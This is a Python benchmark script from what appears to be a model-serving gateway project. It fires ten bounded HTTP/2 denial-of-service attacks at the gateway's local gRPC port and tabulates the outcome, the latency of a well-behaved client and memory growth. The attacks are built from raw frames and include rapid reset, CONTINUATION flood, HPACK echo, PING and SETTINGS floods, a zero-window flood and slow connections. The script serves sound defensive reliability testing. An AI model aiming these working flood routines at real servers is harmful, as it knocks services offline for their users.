"""The known HTTP/2 attacks against the gateway's gRPC port, side by side for each transport.

    .venv/bin/python benchmarks/h2_attacks.py [--transports native,grpcio]

Each attack runs from its own sockets (raw frames through hyperframe) while a well-behaved client
on another connection keeps calling ModelInfer; the table gives what the attacker got, the good
client's latency during the attack against its own baseline, and the daemon's RSS growth. Every
attack is bounded in count and time and targets 127.0.0.1 only. The pass/fail checks of the
same attacks are tests (tests/transport/); this prints the numbers quoted in docs/reliability.md.
"""

from __future__ import annotations

import argparse
import os
import platform
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "tests" / "transport"), str(ROOT / "tests" / "reliability"),
                str(ROOT / "examples")]

from hyperframe.frame import (  # noqa: E402
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)
from transport_helpers import (  # noqa: E402
    INFER, PREFACE, RawH2, echo_request, grpc_frame, simple_arrays, simple_request, write_transport_repository,
)

CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
         7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


class GoodClient:
    """Calls ModelInfer back to back on its own connection and keeps each latency."""

    def __init__(self, url: str) -> None:
        a, b = simple_arrays(1, seed=3)
        self._body = simple_request(a, b).SerializeToString()
        self._url = url
        self.latencies_ms: list[float] = []
        self.failures = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        client, sid = RawH2(self._url, timeout_s=10), 1
        while not self._stop.is_set():
            t = time.perf_counter()
            try:
                client.unary(sid, INFER, self._body)
                ok = client.response(sid).status == 0
            except (OSError, TimeoutError, ConnectionError):
                ok = False
            if ok:
                self.latencies_ms.append((time.perf_counter() - t) * 1000)
                sid += 2
            else:
                self.failures += 1
                client.close()
                client, sid = RawH2(self._url, timeout_s=10), 1
            if sid > 20_001:
                client.close()
                client, sid = RawH2(self._url, timeout_s=10), 1
        client.close()

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(15)

    def mark(self) -> int:
        return len(self.latencies_ms)

    def since(self, mark: int) -> list[float]:
        return sorted(self.latencies_ms[mark:])


def _pct(values: list[float], q: float) -> float:
    return values[min(len(values) - 1, int(len(values) * q))] if values else float("nan")


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) / 1024
    return float("nan")


def outcome(client: RawH2, wait_s: float = 5.0) -> str:
    try:
        client.wait(lambda: client.goaway is not None or client.closed, wait_s)
    except (TimeoutError, ConnectionError, OSError):
        pass
    if client.goaway is not None:
        return f"GOAWAY {CODES.get(client.goaway.error_code, client.goaway.error_code)}"
    return "closed" if client.closed else "still open"


def _send_all(client: RawH2, data: bytes) -> str:
    try:
        client.send(data)
        return ""
    except OSError as exc:
        return f" (write failed: {exc.strerror})"


# -- the attacks: each returns what the attacker saw --

def rapid_reset(url: str) -> str:
    client = RawH2(url)
    note, sent = "", 0
    for _ in range(20):  # 20 x 1000 HEADERS + RST_STREAM pairs
        out = bytearray()
        for _ in range(1000):
            sid = 1 + 2 * sent
            sent += 1
            out += HeadersFrame(sid, client.request_block(INFER), flags={"END_HEADERS"}).serialize()
            out += RstStreamFrame(sid, error_code=8).serialize()
        note = _send_all(client, bytes(out))
        if note:
            break
    result = outcome(client) + f" after {sent} pairs sent{note}"
    client.close()
    return result


def continuation_flood(url: str) -> str:
    client = RawH2(url)
    client.send_frame(HeadersFrame(1, client.request_block(INFER)[:4], flags=set()))
    note = _send_all(client, ContinuationFrame(1, b"", flags=set()).serialize() * 100_000)
    result = outcome(client) + note
    client.close()
    return result


def big_header_blocks(url: str) -> str:
    """150 connections, each with an unfinished 1 MiB header block in CONTINUATION frames."""
    clients, outcomes = [], {}
    for _ in range(150):
        client = RawH2(url)
        client.send_frame(HeadersFrame(1, client.request_block(INFER)[:4], flags=set()))
        _send_all(client, ContinuationFrame(1, b"a" * 16_384, flags=set()).serialize() * 64)
        clients.append(client)
    for client in clients:
        key = outcome(client, 1.0)
        outcomes[key] = outcomes.get(key, 0) + 1
        client.close()
    return ", ".join(f"{n} {k}" for k, n in outcomes.items())


def error_echo(url: str) -> str:
    """A 3,991-byte :path put in the HPACK table once, then referenced by 4,000 tiny HEADERS."""
    def literal(name: bytes, value: bytes) -> bytes:
        return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value

    path = b"/" + b"x" * 3990
    common = b"\x83\x86" + literal(b":authority", b"g") + literal(b"content-type", b"application/grpc") \
        + literal(b"te", b"trailers")
    size = len(path) - 127
    length = bytearray((0x7F,))
    while size >= 0x80:
        length.append((size & 0x7F) | 0x80)
        size >>= 7
    length.append(size)
    first = common + b"\x44" + bytes(length) + path  # :path, literal with incremental indexing
    client = RawH2(url)
    client.send_frame(HeadersFrame(1, first, flags={"END_HEADERS", "END_STREAM"}))
    t = time.perf_counter()
    out = b"".join(HeadersFrame(1 + 2 * i, common + b"\xbe", flags={"END_HEADERS", "END_STREAM"}).serialize()
                   for i in range(1, 4000))
    note = _send_all(client, out)
    try:
        last = client.response(1 + 2 * 3999, 30)
        result = f"status {last.status}, grpc-message {len(last.message)} B, 4,000 answered in {time.perf_counter() - t:.2f} s"
    except (TimeoutError, ConnectionError) as exc:
        result = f"{type(exc).__name__}: {outcome(client, 0.1)}"
    client.close()
    return result + note


def _non_reader(url: str) -> socket.socket:
    host, port = url.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(3)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def _flood(sock: socket.socket, frame: bytes, count: int) -> str:
    chunk, sent = frame * 1000, 0
    try:
        while sent < count:
            sock.sendall(chunk)
            sent += 1000
    except socket.timeout:
        return f"stalled by TCP after {sent:,} frames (the server stopped reading)"
    except OSError as exc:
        return f"closed after {sent:,} frames ({exc.strerror})"
    return f"all {sent:,} frames written"


def ping_flood_no_read(url: str) -> str:
    sock = _non_reader(url)
    result = _flood(sock, PingFrame(0, opaque_data=b"12345678").serialize(), 300_000)
    sock.close()
    return result


def settings_flood_no_read(url: str) -> str:
    sock = _non_reader(url)
    result = _flood(sock, SettingsFrame(0, settings={4: 65535}).serialize(), 300_000)
    sock.close()
    return result


def settings_87k_entries(url: str) -> str:
    client = RawH2(url)
    for i in range(100):  # streams held open: their window is what each entry changes
        client.headers(1 + 2 * i, client.request_block(INFER))
    payload = struct.pack(">HL", 4, 1000) * 87_000
    t = time.perf_counter()
    note = _send_all(client, struct.pack(">BHBBL", len(payload) >> 16, len(payload) & 0xFFFF, 4, 0, 0) + payload)
    result = outcome(client) + f" ({time.perf_counter() - t:.2f} s){note}"
    client.close()
    return result


def zero_window(url: str) -> str:
    """8 connections with a zero initial window, 1,000 calls each asking for 16 KB answers."""
    body = echo_request(b"z" * 16_000).SerializeToString()
    clients, outcomes = [], {}
    for _ in range(8):
        client = RawH2(url, settings={4: 0}, auto_window=False)
        out = bytearray()
        for i in range(1000):
            sid = 1 + 2 * i
            out += HeadersFrame(sid, client.request_block(INFER), flags={"END_HEADERS"}).serialize()
            out += DataFrame(sid, grpc_frame(body), flags={"END_STREAM"}).serialize()
        _send_all(client, bytes(out))
        clients.append(client)
    deadline = time.monotonic() + 3
    for client in clients:
        client.quiet_for(max(0.1, deadline - time.monotonic()))
        for state in client.streams.values():
            key = ("RST " + CODES.get(state.reset, str(state.reset))) if state.reset is not None and state.status is None \
                else (f"status {state.status}" if state.status is not None else "waiting")
            outcomes[key] = outcomes.get(key, 0) + 1
    for client in clients:
        client.close()
    return ", ".join(f"{n} {k}" for k, n in sorted(outcomes.items()))


def unfinished_messages(url: str) -> str:
    """64 streams each sending 4 MiB of a declared 60 MiB message, never the rest."""
    client = RawH2(url)
    client.window_update(0, 1 << 30)
    head = b"\x00" + struct.pack(">I", 60 << 20)
    chunk = b"q" * (1 << 20)
    note = ""
    for i in range(64):
        sid = 1 + 2 * i
        client.headers(sid, client.request_block(INFER))
        note = _send_all(client, DataFrame(sid, head + chunk[:-5]).serialize() + DataFrame(sid, chunk).serialize() * 3)
        if note:
            break
    client.quiet_for(2.0)
    outcomes = {}
    for state in client.streams.values():
        key = f"status {state.status}" if state.status is not None else "waiting"
        outcomes[key] = outcomes.get(key, 0) + 1
    outcomes.setdefault("waiting", 0)
    outcomes["waiting"] += 64 - sum(outcomes.values())
    client.close()
    return ", ".join(f"{n} {k}" for k, n in sorted(outcomes.items())) + note


def silent_connections(url: str) -> str:
    """300 TCP connections that never send a byte: how long until the server closes them."""
    host, port = url.rsplit(":", 1)
    socks = [socket.create_connection((host, int(port))) for _ in range(300)]
    t = time.monotonic()
    closed = 0
    for sock in socks:
        sock.settimeout(max(0.01, t + 15 - time.monotonic()))
        try:
            while sock.recv(65536):
                pass
            closed += 1
        except (socket.timeout, OSError):
            pass
        sock.close()
    return f"{closed}/300 closed by the server within {time.monotonic() - t:.1f} s (wait bound 15 s)"


ATTACKS = [
    ("rapid reset: 20,000 HEADERS + RST_STREAM", rapid_reset),
    ("CONTINUATION flood: empty frames, no END_HEADERS", continuation_flood),
    ("150 connections x unfinished 1 MiB header block", big_header_blocks),
    ("error echo: 4 KB :path in HPACK, 4,000 references", error_echo),
    ("PING flood, client never reads", ping_flood_no_read),
    ("SETTINGS flood, client never reads", settings_flood_no_read),
    ("SETTINGS with 87k entries, 100 streams open", settings_87k_entries),
    ("zero window: 8 conns x 1,000 calls, 16 KB answers", zero_window),
    ("64 unfinished 60 MiB messages (4 MiB sent each)", unfinished_messages),
    ("300 silent TCP connections", silent_connections),
]


def run_transport(transport: str, repository: Path) -> list[tuple[str, str, str, str]]:
    from conftest import Gateway  # tests/conftest.py

    gw = Gateway(repository, "--grpc-transport", transport, "--max-request-bytes", str(64 << 20),
                 "--header-timeout-s", "5", "--idle-timeout-s", "30")
    rows = []
    try:
        with GoodClient(gw.grpc_url) as good:
            deadline = time.monotonic() + 10
            while good.mark() < 200 and time.monotonic() < deadline:
                time.sleep(0.05)  # pacing the warm-up, not synchronisation
            base = good.since(0)
            base_p50 = _pct(base, 0.5)
            for name, attack in ATTACKS:
                rss0, mark, failures = rss_mib(gw.proc.pid), good.mark(), good.failures
                t = time.perf_counter()
                try:
                    seen = attack(gw.grpc_url)
                except Exception as exc:  # noqa: BLE001 - a table row, not a crash of the run
                    seen = f"attack raised {type(exc).__name__}: {exc}"
                elapsed = time.perf_counter() - t
                during = good.since(mark)
                alive = gw.proc.poll() is None
                rows.append((
                    name, seen if alive else f"{seen}; DAEMON DIED",
                    f"p50 {_pct(during, 0.5):.1f} / p90 {_pct(during, 0.9):.1f} / max {max(during, default=float('nan')):.0f} ms"
                    f" ({len(during)} calls, {good.failures - failures} failed; baseline p50 {base_p50:.1f}) in {elapsed:.1f} s",
                    f"{rss_mib(gw.proc.pid) - rss0:+.0f}",
                ))
                print(f"  {transport}: {name}: {rows[-1][1]}", file=sys.stderr)
                if not alive:
                    break
    finally:
        gw.terminate()
    return rows


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--transports", default="native,grpcio")
    args = ap.parse_args()
    repository = write_transport_repository(Path(tempfile.mkdtemp(prefix="h2-attacks-")) / "models")
    print(f"machine: {os.cpu_count()} cores, {platform.machine()}, Python {platform.python_version()}; "
          f"load average at start {os.getloadavg()[0]:.2f}\n")
    for transport in args.transports.split(","):
        rows = run_transport(transport, repository)
        print(f"### grpc_transport: {transport}\n")
        print("| attack | what the attacker got | good client during the attack | RSS MiB |")
        print("| --- | --- | --- | ---: |")
        for row in rows:
            print("| " + " | ".join(row) + " |")
        print()


if __name__ == "__main__":
    main()
